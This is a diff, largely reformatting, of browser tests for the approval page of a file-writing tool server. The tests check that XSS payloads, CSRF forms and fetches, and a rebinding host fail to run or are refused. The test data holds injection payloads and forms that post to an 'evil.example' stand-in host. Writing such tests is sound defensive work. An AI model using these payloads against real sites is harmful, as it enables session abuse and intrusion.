@@ -15,16 +15,34 @@ pytest.importorskip("mcp", reason="`make test` installs the packages of the serv
 from chromium import BROWSER, Chromium
 from served import Document, Served, words
 
-pytestmark = pytest.mark.skipif(BROWSER is None, reason="there is no Chromium (Debian: apt-get install chromium)")
+pytestmark = pytest.mark.skipif(
+    BROWSER is None, reason="there is no Chromium (Debian: apt-get install chromium)"
+)
 NUMBERS = itertools.count(1)
 ENTER = ("Enter", 13, "\r")
 # What the policy of the page names as it stops something.
-STOPPED = ["script-src-elem", "script-src-attr", "style-src-attr", "img-src", "frame-src", "style-src-elem", "form-action", "connect-src"]
+STOPPED = [
+    "script-src-elem",
+    "script-src-attr",
+    "style-src-attr",
+    "img-src",
+    "frame-src",
+    "style-src-elem",
+    "form-action",
+    "connect-src",
+]
 
 
 @pytest.fixture(scope="module")
 def served(extension, tmp_path_factory):
-    made = Served(tmp_path_factory.mktemp("workspace"), extension, tmp_path_factory.mktemp("server"), "--write", "--approve", "web")
+    made = Served(
+        tmp_path_factory.mktemp("workspace"),
+        extension,
+        tmp_path_factory.mktemp("server"),
+        "--write",
+        "--approve",
+        "web",
+    )
     yield made
     made.close()
 
@@ -81,7 +99,10 @@ def test_a_change_is_approved_by_the_keyboard_alone(served, browser, path):
     browser.focus("Edit workspace/")
     browser.press(*ENTER)
     browser.until("document.forms.length === 2 && document.readyState === 'complete'")
-    assert browser.value("getComputedStyle(document.querySelector('td.del')).backgroundColor") != "rgba(0, 0, 0, 0)", "there is no style"
+    assert (
+        browser.value("getComputedStyle(document.querySelector('td.del')).backgroundColor")
+        != "rgba(0, 0, 0, 0)"
+    ), "there is no style"
     way = browser.focus("Yes, approve")
     assert "View the full file" in way and "this change, once" in way
     # What has the focus is outlined.
@@ -104,7 +125,9 @@ def test_a_screen_reader_is_told_everything(served, browser, path):
         assert wanted in said, (wanted, [one for one in said if one[0] == wanted[0]])
     texts = [name.strip() for role, name in said if role == "StaticText"]
     assert "removed:" in texts and "added:" in texts and "<U+202E>" in texts
-    assert browser.value("document.documentElement.lang") == "en" and browser.value("document.title").startswith("Edit workspace/")
+    assert browser.value("document.documentElement.lang") == "en" and browser.value(
+        "document.title"
+    ).startswith("Edit workspace/")
 
 
 def test_nothing_of_a_payload_runs_or_loads(served, browser):
@@ -114,12 +137,23 @@ def test_nothing_of_a_payload_runs_or_loads(served, browser):
         "<svg onload=window.pwned=1>", "<iframe src=javascript:window.pwned=1>", "<form action=http://evil.example><button>Yes, approve</button></form>",
         "<link rel=stylesheet href=http://evil.example/x>", "<meta http-equiv=refresh content='0; url=http://evil.example'>", "&lt;script&gt;",
     ]  # fmt: skip
-    call = served.call("write_file", {"path": f"workspace/{path.name}", "content": "".join(f"{text}\n" for text in texts)})
+    call = served.call(
+        "write_file",
+        {"path": f"workspace/{path.name}", "content": "".join(f"{text}\n" for text in texts)},
+    )
     (link,) = served.waiting()
     browser.go(served.address("approve") + link)
-    assert browser.value("window.pwned === undefined && document.scripts.length === 0 && document.forms.length === 2")
-    assert browser.value("document.querySelectorAll('img, svg, iframe, object, style, base').length") == 0
-    assert browser.value("[...document.querySelectorAll('td.ins bdo')].map(e => e.textContent)") == texts
+    assert browser.value(
+        "window.pwned === undefined && document.scripts.length === 0 && document.forms.length === 2"
+    )
+    assert (
+        browser.value("document.querySelectorAll('img, svg, iframe, object, style, base').length")
+        == 0
+    )
+    assert (
+        browser.value("[...document.querySelectorAll('td.ins bdo')].map(e => e.textContent)")
+        == texts
+    )
     origin = "http://" + urllib.parse.urlsplit(served.address("approve")).netloc
     assert all(url.startswith(origin + "/") for url in browser.requested()), browser.requested()
     served.decline_all()
@@ -143,13 +177,20 @@ def test_the_policy_stops_what_an_injection_would_do(served, browser, elsewhere)
         document.getElementById('leak').submit();
         fetch(OTHER + '/fetch').catch(() => 'refused')
     """.replace("OTHER", json.dumps(other))
-    browser.value("window.stopped = []; document.addEventListener('securitypolicyviolation', e => window.stopped.push(e.effectiveDirective))")
+    browser.value(
+        "window.stopped = []; document.addEventListener('securitypolicyviolation', e => window.stopped.push(e.effectiveDirective))"
+    )
     browser.value(inject)
     for directive in STOPPED:
         browser.until(f"window.stopped.includes('{directive}')")
-    assert browser.value("window.pwned") is None and browser.value("getComputedStyle(document.querySelector('b')).color") != "rgb(255, 0, 0)"
+    assert (
+        browser.value("window.pwned") is None
+        and browser.value("getComputedStyle(document.querySelector('b')).color") != "rgb(255, 0, 0)"
+    )
     assert pages.get("asked", []) == [], pages
-    assert "Content Security Policy" in json.dumps(browser.events) or "Content-Security-Policy" in json.dumps(browser.events)
+    assert "Content Security Policy" in json.dumps(
+        browser.events
+    ) or "Content-Security-Policy" in json.dumps(browser.events)
 
 
 def test_another_site_that_knows_the_address_can_not_decide(served, browser, elsewhere, path):
@@ -160,16 +201,23 @@ def test_another_site_that_knows_the_address_can_not_decide(served, browser, els
     address = served.address("approve")
     yes = Document(served.request(link).text).form("yes")
     inputs = "".join(f'<input name="{name}" value="{value}">' for name, value in yes.items())
-    pages["/form"] = f'<form id=f method=post action="{address}decide">{inputs}</form><script>document.getElementById("f").submit()</script>'
+    pages["/form"] = (
+        f'<form id=f method=post action="{address}decide">{inputs}</form><script>document.getElementById("f").submit()</script>'
+    )
     pages["/frame"] = f'<iframe src="{address}{link}" width=900 height=700></iframe>'
-    pages["/fetch"] = f"""<script>fetch({json.dumps(address)} + "decide", {{method: "POST", mode: "no-cors", credentials: "include",
+    pages[
+        "/fetch"
+    ] = f"""<script>fetch({json.dumps(address)} + "decide", {{method: "POST", mode: "no-cors", credentials: "include",
         headers: {{"content-type": "application/x-www-form-urlencoded"}}, body: {json.dumps(urllib.parse.urlencode(yes))}}}).then(
         () => {{ document.title = "sent" }}, () => {{ document.title = "failed" }})</script>"""
     browser.go(other + "/form")
     browser.until("document.body.innerText.includes('Another site may not send this.')")
     browser.go(other + "/frame")
     # The frame is there when the page is; what it shows may follow.
-    shown = lambda: [one["frame"]["url"] for one in browser.do("Page.getFrameTree")["frameTree"].get("childFrames", [])]
+    shown = lambda: [
+        one["frame"]["url"]
+        for one in browser.do("Page.getFrameTree")["frameTree"].get("childFrames", [])
+    ]
     until = time.monotonic() + 30
     while shown() in ([], [""], ["about:blank"]) and time.monotonic() < until:
         time.sleep(0.05)
@@ -186,7 +234,9 @@ def test_a_name_that_leads_to_this_machine_is_refused(served, browser, path):
     (link,) = served.waiting()
     address = urllib.parse.urlsplit(served.address("approve"))
     browser.go(f"http://evil.example:{address.port}{address.path}{link}")
-    assert browser.value("document.body.innerText").startswith("This is not the host of this server.")
+    assert browser.value("document.body.innerText").startswith(
+        "This is not the host of this server."
+    )
     assert not call.done()
 
 
@@ -194,7 +244,9 @@ def test_what_is_proposed_appears_by_itself(served, browser, path):
     browser.go(served.address("approve"))
     assert browser.value("document.querySelector('h1').innerText") == "Nothing waits for you"
     call = served.call(*edit(path))
-    browser.until("document.querySelector('h1').innerText === '1 waits for you' && document.title.startsWith('1 waits')")
+    browser.until(
+        "document.querySelector('h1').innerText === '1 waits for you' && document.title.startsWith('1 waits')"
+    )
     assert not call.done()
 
 
